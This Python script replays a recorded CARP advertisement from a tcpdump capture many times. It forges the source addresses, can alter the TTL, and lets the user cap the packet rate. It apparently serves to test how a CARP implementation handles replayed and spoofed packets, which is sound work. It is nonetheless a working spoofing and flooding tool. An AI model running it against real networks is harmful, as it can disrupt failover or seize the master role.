#!/usr/bin/python3
"""Send a recorded CARP advertisement again, many times, from other addresses.

usage: flood_carp.py PCAP ORIG IFACE COUNT SOURCES [PPS [TTL]]
The last IPv4 CARP packet from ORIG in PCAP (a tcpdump capture, Ethernet
or Linux cooked) is sent COUNT times, unchanged but for its IP source (and
the IP header checksum): the i-th copy comes from SOURCES[i % n] (SOURCES
is comma-separated), which is what an attacker who recorded an
advertisement and forges source addresses can do. PPS 0 or absent: as fast
as the socket takes them; otherwise at most PPS packets a second. TTL, if
given, replaces the TTL (a copy a receiver must refuse as badttl). Prints
the number sent and the seconds it took.

No scapy: it starts in a few milliseconds, so a replay can begin right
after the master dies.
"""
import socket
import struct
import sys
import time


def ip_cksum(hdr):
    s = sum(struct.unpack("!%dH" % (len(hdr) // 2), hdr))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def last_carp(path, orig):
    with open(path, "rb") as f:
        data = f.read()
    magic = struct.unpack("<I", data[:4])[0]
    if magic in (0xA1B2C3D4, 0xA1B23C4D):
        end = "<"
    elif magic in (0xD4C3B2A1, 0x4D3CB2A1):
        end = ">"
    else:
        sys.exit("%s: not a pcap file" % path)
    linktype = struct.unpack(end + "I", data[20:24])[0]
    skip = {1: 14, 113: 16}.get(linktype)
    if skip is None:
        sys.exit("%s: link type %d" % (path, linktype))
    src = socket.inet_aton(orig)
    off, last = 24, None
    while off + 16 <= len(data):
        incl = struct.unpack(end + "I", data[off + 8:off + 12])[0]
        rec = data[off + 16:off + 16 + incl]
        off += 16 + incl
        if rec[skip - 2:skip] != b"\x08\x00":
            continue
        ip = rec[skip:]
        if len(ip) >= 20 and ip[0] >> 4 == 4 and ip[9] == 112 and ip[12:16] == src:
            last = ip[:struct.unpack("!H", ip[2:4])[0]]
    if last is None:
        sys.exit("no CARP packet from %s in %s" % (orig, path))
    return last


def frames(pkt, iface, sources, ttl):
    with open("/sys/class/net/%s/address" % iface) as f:
        mac = bytes.fromhex(f.read().strip().replace(":", ""))
    eth = bytes.fromhex("01005e000012") + mac + b"\x08\x00"
    ihl = (pkt[0] & 0x0F) * 4
    out = []
    for src in sources:
        hdr = bytearray(pkt[:ihl])
        hdr[12:16] = socket.inet_aton(src)
        if ttl is not None:
            hdr[8] = ttl
        hdr[10:12] = b"\0\0"
        hdr[10:12] = struct.pack("!H", ip_cksum(bytes(hdr)))
        out.append(eth + bytes(hdr) + pkt[ihl:])
    return out


def main():
    pcap, orig, iface, count, sources = sys.argv[1:6]
    pps = float(sys.argv[6]) if len(sys.argv) > 6 else 0.0
    ttl = int(sys.argv[7]) if len(sys.argv) > 7 else None
    fr = frames(last_carp(pcap, orig), iface, sources.split(","), ttl)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    n = int(count)
    t0 = time.monotonic()
    for i in range(n):
        if pps > 0:
            delay = t0 + i / pps - time.monotonic()
            if delay > 0:
                time.sleep(delay)
        while True:
            try:
                s.send(fr[i % len(fr)])
                break
            except OSError as e:  # ENOBUFS: the device queue is full
                if e.errno != 105:
                    raise
                time.sleep(0.0005)
    print(n, round(time.monotonic() - t0, 3))


if __name__ == "__main__":
    main()
